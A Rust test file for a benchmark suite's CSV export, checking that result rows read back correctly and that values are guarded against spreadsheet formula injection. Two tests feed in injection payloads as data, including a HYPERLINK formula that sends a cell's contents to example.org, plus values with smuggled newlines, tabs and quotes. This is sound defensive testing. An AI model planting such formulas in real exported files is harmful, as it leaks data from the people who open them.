//! The CSV reads back as what was written, and runs nothing in a spreadsheet.

use super::*;
use chipmark_results::fixture;
use chipmark_results::imported::{Fault, Figure, ImportedOutcome, ImportedTable, PublishedMachine, Source, Statistic};
use std::collections::HashMap;

fn read_back(text: &str) -> Vec<HashMap<String, String>> {
    csv::Reader::from_reader(text.as_bytes()).deserialize().map(Result::unwrap).collect()
}

#[test]
fn the_first_rows() {
    let text = csv(&Report::new(&[fixture::file()])).unwrap();
    let lines: Vec<&str> = text.lines().take(5).collect();
    insta::assert_snapshot!(lines.join("\n"), @"
    run_id,date,chip,gpu,gpu_cores,memory_bytes,os,framework,version,device,execution,mode,workload,case,shape,dtype,outcome,reason,path,launches,samples,median_ns,ci_low_ns,ci_high_ns,low_ns,high_ns,p05_ns,p95_ns,gflops,gbps,check_error,check_bound,flags,upload_ns,step_ns,download_ns,bare_finish_ns,flop,bytes,suite,harness_version,gflops_of_measured,gflops_of_vendor,gbps_of_measured,gbps_of_vendor,roofline,peak_bytes,allocator_peak_bytes,joules_per_call,watts,variant,inputs,disturbances,trust
    0123456789abcdef,2026-03-01T12:00:00Z,Apple M3 Max,Apple M3 Max GPU,40,68719476736,macOS 15.3,candle,0.11.0,cpu,eager,latency,matmul,matmul/100x100@100x100/f32,100x100@100x100,f32,ok,,native,3,9,1010,,,1000,1020,997,1023,1980.1980198019803,59.40594059405941,0.0000001,0.000002,,,,,100,2000000,60000,quick,0.1.0,0.4950495049504951,,0.4950495049504951,0.14851485148514854,0.4950495049504951,3145728,,,,,warm,when it started: the clocks of Apple M3 Max GPU are held down (thermal); when it started: indexer takes 35% of a core; when it ended: the clocks of Apple M3 Max GPU are held down (thermal),
    0123456789abcdef,2026-03-01T12:00:00Z,Apple M3 Max,Apple M3 Max GPU,40,68719476736,macOS 15.3,tch,2.9.0,cpu,eager,latency,matmul,matmul/100x100@100x100/f32,100x100@100x100,f32,ok,,native,3,9,2020,,,2000,2040,1997,2043,990.0990099009902,29.702970297029704,0.0000001,0.000002,,,,,100,2000000,60000,quick,0.1.0,0.24752475247524755,,0.24752475247524755,0.07425742574257427,0.24752475247524755,,,,,,warm,when it started: the clocks of Apple M3 Max GPU are held down (thermal); when it started: indexer takes 35% of a core; when it ended: the clocks of Apple M3 Max GPU are held down (thermal),
    0123456789abcdef,2026-03-01T12:00:00Z,Apple M3 Max,Apple M3 Max GPU,40,68719476736,macOS 15.3,candle,0.11.0,cpu,eager,latency,softmax,softmax/100x50/f32,100x50,f32,ok,,native,3,3,2020,,,2000,2040,2002,2038,,19.801980198019802,0.0000001,0.000002,few-samples,,,,100,0,40000,quick,0.1.0,,,0.16501650165016502,0.04950495049504951,0.16501650165016502,,,,,,warm,when it started: the clocks of Apple M3 Max GPU are held down (thermal); when it started: indexer takes 35% of a core; when it ended: the clocks of Apple M3 Max GPU are held down (thermal),
    0123456789abcdef,2026-03-01T12:00:00Z,Apple M3 Max,Apple M3 Max GPU,40,68719476736,macOS 15.3,tch,2.9.0,cpu,eager,latency,softmax,softmax/100x50/f32,100x50,f32,ok,1 of 3 launches: crashed (the worker was killed by signal 11 (SIGSEGV)),composed,2,2,4040,,,4000,4080,4004,4076,,9.900990099009901,0.0000001,0.000002,few-samples,,,,100,0,40000,quick,0.1.0,,,0.08250825082508251,0.024752475247524754,0.08250825082508251,,,,,,warm,when it started: the clocks of Apple M3 Max GPU are held down (thermal); when it started: indexer takes 35% of a core; when it ended: the clocks of Apple M3 Max GPU are held down (thermal),
    ");
}

#[test]
fn every_cell_has_a_row_that_reads_back() {
    let report = Report::new(&[fixture::file(), fixture::file()]);
    let rows = read_back(&csv(&report).unwrap());
    assert_eq!(rows.len(), 28);
    let matmul = &rows[0];
    assert_eq!((matmul["case"].as_str(), matmul["framework"].as_str()), (fixture::MATMUL, "candle"));
    assert_eq!((matmul["device"].as_str(), matmul["gpu_cores"].as_str()), ("cpu", "40"));
    let median: f64 = matmul["median_ns"].parse().unwrap();
    let gflops: f64 = matmul["gflops"].parse().unwrap();
    assert_eq!((median, gflops), (1010.0, 2_000_000.0 / 1010.0));
    let composed = rows.iter().find(|row| row["path"] == "composed").unwrap();
    assert_eq!((composed["workload"].as_str(), composed["flags"].as_str()), ("softmax", "few-samples"));
    assert!(composed["reason"].starts_with("1 of 3 launches: crashed"));
    let transfer = rows.iter().find(|row| row["mode"] == "transfer").unwrap();
    assert_eq!((transfer["upload_ns"].as_str(), transfer["gflops"].as_str()), ("202", ""));
    for row in rows.iter().filter(|row| row["outcome"] != "ok") {
        assert_eq!(row["median_ns"], "", "{row:?}");
        assert_ne!(row["reason"], "", "{row:?}");
    }
}

#[test]
fn a_row_tells_when_where_what_and_how_sure() {
    let rounds: Vec<[f64; 2]> = (0..10).map(|round| [1000.0 + f64::from(round), 2000.0]).collect();
    let text = csv(&Report::new(&[fixture::rounds(&rounds)])).unwrap();
    let rows = read_back(&text);
    let row = &rows[0];
    for (column, value) in [
        ("date", "2026-03-01T12:00:00Z"),
        ("chip", "Apple M3 Max"),
        ("gpu_cores", "40"),
        ("memory_bytes", "68719476736"),
        ("os", "macOS 15.3"),
        ("framework", "candle"),
        ("version", "0.11.0"),
        ("device", "cpu"),
        ("execution", "eager"),
        ("mode", "latency"),
        ("workload", "matmul"),
        ("shape", "100x100@100x100"),
        ("dtype", "f32"),
        ("outcome", "ok"),
        ("launches", "10"),
        ("flags", ""),
    ] {
        assert_eq!(row[column], value, "{column}");
    }
    let number = |column: &str| row[column].parse::<f64>().unwrap_or_else(|_| panic!("{column}: {row:?}"));
    // Of ten launches from 1000 to 1009 ns: the second to the ninth.
    assert_eq!([number("median_ns"), number("ci_low_ns"), number("ci_high_ns")], [1004.5, 1001.0, 1008.0]);
    assert_eq!([number("low_ns"), number("high_ns")], [1000.0, 1009.0]);
    assert!(number("p05_ns") < number("median_ns") && number("median_ns") < number("p95_ns"));
    assert!(number("samples") >= 10.0 && number("gflops") > 1000.0 && number("gbps") > 50.0);
    // Three launches leave no such interval, and a chip without a peak in the table no share of it.
    let few = read_back(&csv(&Report::new(&[fixture::file()])).unwrap());
    assert_eq!((few[0]["ci_low_ns"].as_str(), few[0]["ci_high_ns"].as_str()), ("", ""));
    let share = |column: &str| few[0][column].parse::<f64>().unwrap();
    assert!([share("gflops_of_measured"), share("gbps_of_vendor"), share("roofline")].iter().all(|s| *s > 0.0));
    assert_eq!(few[0]["peak_bytes"], "3145728");
}

#[test]
fn inputs_and_what_disturbed_from_start_to_end_have_columns() {
    let mut file = fixture::file();
    file.run.settings.inputs = chipmark_core::Inputs::Cold;
    file.run.state.gpus.clear();
    file.rounds = vec![fixture::calm(0)];
    file.rounds[0].void = Some("asleep".to_owned());
    let rows = read_back(&csv(&Report::new(&[file])).unwrap());
    assert!(rows.iter().all(|row| row["inputs"] == "cold"));
    let disturbances = "when it started: indexer takes 35% of a core; 1 round was disturbed and counts for nothing: asleep; \
                        when it ended: the clocks of Apple M3 Max GPU are held down (thermal)";
    assert!(rows.iter().all(|row| row["disturbances"] == disturbances), "{:?}", rows[0]);

    let mut quiet = fixture::file();
    quiet.run.state.gpus.clear();
    quiet.run.state.heavy_processes.clear();
    quiet.rounds.clear();
    quiet.ends.clear();
    let rows = read_back(&csv(&Report::new(&[quiet])).unwrap());
    assert_eq!((rows[0]["inputs"].as_str(), rows[0]["disturbances"].as_str()), ("warm", ""));
}

/// A published table of two figures, the second a mean that was printed as nothing.
fn table(text: &str) -> ImportedTable {
    let figure = |case: Option<&str>, target: &str, time_ns: Option<f64>| Figure {
        workload: "relu".to_owned(),
        case: case.map(|case| case.parse().unwrap()),
        target: target.parse().unwrap(),
        mode: chipmark_core::Mode::Latency,
        printed: if time_ns.is_some() { "0.50" } else { "nan" }.to_owned(),
        time_ns,
        outcome: if time_ns.is_some() { ImportedOutcome::Imported } else { ImportedOutcome::PrintedAsNan },
        faults: time_ns.map(|_| Fault::MaskAllOnes).into_iter().collect(),
    };
    let some = || Some(text.to_owned());
    ImportedTable {
        path: format!("somewhere/{text}.jsonl").into(),
        source: Source {
            title: text.to_owned(),
            url: text.to_owned(),
            licence: text.to_owned(),
            authors: text.to_owned(),
        },
        heading: text.to_owned(),
        machine: PublishedMachine {
            chip: text.to_owned(),
            cores: some(),
            gpu_cores: Some(40),
            memory_bytes: Some(64 << 30),
            card_memory_bytes: None,
            host: some(),
            kind: some(),
        },
        versions: std::iter::once(("mlx".to_owned(), text.to_owned())).collect(),
        statistic: Statistic::Mean,
        figures: vec![figure(Some("relu/8x8/f32"), "mlx:gpu+compile", Some(500_000.5)), figure(None, "tch:cpu", None)],
    }
}

#[test]
fn every_published_figure_has_a_row_that_reads_back() {
    let rows = read_back(&published(&[table("M3 Max")]).unwrap());
    let [timed, mean] = rows.as_slice() else { panic!("{rows:?}") };
    for (column, value) in [
        ("source", "M3 Max"),
        ("table", "M3 Max"),
        ("chip", "M3 Max"),
        ("gpu_cores", "40"),
        ("memory_bytes", "68719476736"),
        ("card_memory_bytes", ""),
        ("framework", "mlx"),
        ("version", "M3 Max"),
        ("device", "gpu"),
        ("execution", "compile"),
        ("workload", "relu"),
        ("case", "relu/8x8/f32"),
        ("shape", "8x8"),
        ("dtype", "f32"),
        ("statistic", "mean"),
        ("outcome", "imported"),
        ("printed", "0.50"),
        ("time_ns", "500000.5"),
        ("faults", "mask-all-ones"),
    ] {
        assert_eq!(timed[column], value, "{column}");
    }
    // A mean is of no case, and what was printed as nothing has no time: neither is a zero.
    for column in ["case", "shape", "dtype", "time_ns", "version", "faults"] {
        assert_eq!(mean[column], "", "{column}");
    }
    assert_eq!((mean["outcome"].as_str(), mean["printed"].as_str()), ("printed-as-nan", "nan"));
    assert_eq!(published(&[]).unwrap().lines().count(), 1);
}

#[test]
fn a_published_text_runs_nothing_and_tells_no_folder() {
    let text = published(&[table("=1+1\r\n\"x\"")]).unwrap();
    let rows = read_back(&text);
    assert_eq!(rows.len(), 2);
    for value in rows.iter().flat_map(HashMap::values) {
        assert!(!value.starts_with('=') && !value.contains(['\n', '\r']), "{value}");
    }
    assert!(!text.contains("somewhere"), "{text}");
}

#[test]
fn a_spreadsheet_runs_nothing() {
    for text in ["=1+1", "+1", "-1", "@SUM(A1)", " =1", "\u{ff1d}1", "  \u{ff0b}1"] {
        assert_eq!(guarded(text), format!("'{text}"));
    }
    for text in ["Apple M3", "1-2", ""] {
        assert_eq!(guarded(text), text);
    }
    let mut file = fixture::file();
    let nasty = "=HYPERLINK(\"http://example.org/?\"&A1,\"x\")";
    let tabbed = "\t=1\r\n=2\",\"=3";
    file.run.machine.chip = nasty.to_owned();
    file.run.machine.gpus[0].name = tabbed.to_owned();
    file.run.suite = tabbed.to_owned();
    file.run.targets[0].info.version = nasty.to_owned();
    for check in &mut file.checks {
        check.reason = check.reason.as_ref().map(|_| nasty.to_owned());
    }
    let rows = read_back(&csv(&Report::new(&[file])).unwrap());
    assert_eq!(rows.len(), 14);
    for value in rows.iter().flat_map(HashMap::values) {
        assert!(!value.trim_start().starts_with(['=', '+', '@']), "{value}");
        assert!(!value.contains(['\n', '\r', '\t']), "{value}");
    }
    assert_eq!(rows[0]["chip"], format!("'{nasty}"));
}

#[test]
fn the_schema_page_describes_every_column() {
    let page = include_str!("../../../suite/docs/SCHEMA.md");
    let (_, table) = page.split_once("## `report.csv`").unwrap();
    let (table, rest) = table.split_once("\n## ").unwrap();
    for column in COLUMNS {
        assert!(table.contains(&format!("`{column}`")), "{column}");
    }
    let (_, published) = rest.split_once("# `published.csv`").unwrap();
    for column in PUBLISHED_COLUMNS {
        assert!(published.contains(&format!("`{column}`")), "{column}");
    }
}
